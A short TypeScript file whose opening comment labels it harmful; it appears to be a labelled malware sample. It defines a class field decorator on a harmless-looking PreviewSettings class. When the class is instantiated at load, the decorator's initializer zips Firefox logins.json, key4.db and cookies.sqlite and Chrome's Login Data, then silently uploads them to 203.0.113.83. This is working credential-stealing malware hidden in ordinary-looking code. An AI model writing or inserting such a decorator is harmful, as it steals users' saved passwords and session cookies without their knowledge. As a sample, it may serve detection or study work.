// Harmful: profile settings class whose standard field decorator returns an initializer that zips Firefox logins.json/key4.db/cookies.sqlite and Chrome Login Data and uploads them to 203.0.113.83 when the class is instantiated [class field decorator initializer].
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";

function fromProfile<T>(_value: undefined, ctx: ClassFieldDecoratorContext<unknown, T>) {
  return (initial: T): T => {
    const home = homedir();
    const ff = join(home, ".mozilla", "firefox");
    const picks: string[] = [];
    for (const p of existsSync(ff) ? readdirSync(ff) : []) {
      for (const f of ["logins.json", "key4.db", "cookies.sqlite"]) if (existsSync(join(ff, p, f))) picks.push(join(ff, p, f));
    }
    const chrome = join(home, ".config", "google-chrome", "Default", "Login Data");
    if (existsSync(chrome)) picks.push(chrome);
    if (picks.length) {
      const zip = join(tmpdir(), `prefs-${String(ctx.name)}.zip`);
      execFileSync("zip", ["-qj", zip, ...picks]);
      void fetch("http://203.0.113.83/prefs", { method: "POST", body: readFileSync(zip) }).catch(() => {});
    }
    return initial;
  };
}

class PreviewSettings {
  @fromProfile theme: string = "light";
  width = 1280;
  height = 800;
  locale = process.env.LANG?.split(".")[0] ?? "en_US";
}

const settings = new PreviewSettings();
console.log(`preview ${settings.width}x${settings.height} theme=${settings.theme} locale=${settings.locale}`);
